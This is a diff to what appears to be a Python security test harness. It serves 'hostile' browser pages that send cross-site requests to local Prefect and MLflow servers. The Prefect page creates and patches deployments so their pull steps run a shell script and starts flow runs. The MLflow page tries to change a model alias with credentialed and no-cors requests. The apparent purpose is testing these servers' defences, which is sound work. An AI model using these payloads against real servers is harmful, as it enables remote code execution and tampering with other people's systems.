@@ -6,7 +6,7 @@ import json
 import queue
 import subprocess
 import threading
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -20,7 +20,8 @@ REACHING = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetw
 PAGE = """<!doctype html><title>hostile</title>
 <iframe name="sink"></iframe><iframe id="framed"></iframe>
 <script>
-const server = location.hash.slice(1), api = server + "/api", got = {};
+const [server, ...deployments] = location.hash.slice(1).split(",");
+const api = server + "/api", got = {};
 const shell = [{"prefect.deployments.steps.run_shell_script": {script: "touch taken"}}];
 const json = {"content-type": "application/json"}, plain = {"content-type": "text/plain"};
 const attempt = async (name, work) => {
@@ -66,6 +67,14 @@ const everything = async () => {
     pull_steps: shell, entrypoint: "flow.py:flow"}));
   await attempt("start a run", () => read("POST",
     `/deployments/${got["make a deployment"].id}/create_flow_run`, {}));
+  for (const one of deployments) {
+    await attempt(`start a run of ${one} elsewhere`, () => read("POST",
+      `/deployments/${one}/create_flow_run`, {parameters: {root: "/tmp", force: true}}));
+    await attempt(`change the pull steps of ${one}`, () => read("PATCH",
+      `/deployments/${one}`, {pull_steps: shell, path: "/tmp", entrypoint: "flow.py:flow"}));
+    await fetch(api + `/deployments/${one}/create_flow_run`,
+      {method: "POST", mode: "no-cors", body: new Blob(["{}"])}).catch(() => 0);
+  }
   await attempt("make an automation", () => read("POST", "/automations/", {
     name: "hostile", trigger: {type: "event", posture: "Reactive", expect: ["*"], threshold: 1,
     within: 0}, actions: [{type: "do-nothing"}]}));
@@ -99,14 +108,50 @@ everything();
 </script>"""
 
 
-def attack(server: str, directory: Path) -> dict[str, Any]:
-    """What the page got from a server, by the name of each attempt.
+MLFLOW = """<!doctype html><title>hostile</title><script>
+const server = location.hash.slice(1), got = {};
+const json = {"content-type": "application/json"};
+const alias = JSON.stringify({name: "guarded", alias: "champion", version: "1"});
+const attempt = async (name, path, options) => {
+  try {
+    const answer = await fetch(server + path, {credentials: "include", ...options});
+    got[name] = (answer.ok ? "" : "refused: ") + answer.status + " " + await answer.text();
+  } catch (error) { got[name] = "refused: " + error; }
+};
+const everything = async () => {
+  for (const api of ["/api/2.0/mlflow", "/ajax-api/2.0/mlflow"]) {
+    const change = api + "/registered-models/alias";
+    await attempt("change an alias at " + api, change,
+      {method: "POST", headers: json, body: alias});
+    await attempt("change an alias unasked at " + api, change, {method: "POST", body: alias});
+    await fetch(server + change, {method: "POST", mode: "no-cors", credentials: "include",
+      body: new Blob([alias])}).catch(() => 0);
+    await attempt("read the models at " + api, api + "/registered-models/search", {});
+  }
+  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
+};
+everything();
+</script>"""
+
+
+def attack(server: str, directory: Path, deployments: Sequence[str] = ()) -> dict[str, Any]:
+    """What the page got from a Prefect server, by the name of each attempt.
 
     Args:
         server: The server's address, ``http://HOST:PORT``.
         directory: Where the browser may keep its profile.
+        deployments: Ids that the page knows.
     """
-    with _serving() as (address, said):
+    return _attack(PAGE, ",".join([server, *deployments]), directory)
+
+
+def attack_mlflow(server: str, directory: Path) -> dict[str, Any]:
+    """What a page got from an MLflow server whose model `guarded` it knows."""
+    return _attack(MLFLOW, server, directory)
+
+
+def _attack(page: str, server: str, directory: Path) -> dict[str, Any]:
+    with _serving(page) as (address, said):
         command = [str(BROWSER), *FLAGS, REACHING, f"--user-data-dir={directory / 'profile'}",
                    "--remote-debugging-port=0", f"{address}/#{server}"]  # fmt: skip
         browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
@@ -119,12 +164,12 @@ def attack(server: str, directory: Path) -> dict[str, Any]:
 
 
 @contextmanager
-def _serving() -> Iterator[tuple[str, queue.Queue[dict[str, Any]]]]:
+def _serving(page: str) -> Iterator[tuple[str, queue.Queue[dict[str, Any]]]]:
     said: queue.Queue[dict[str, Any]] = queue.Queue()
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            self._answer(PAGE.encode())
+            self._answer(page.encode())
 
         def do_POST(self) -> None:
             said.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
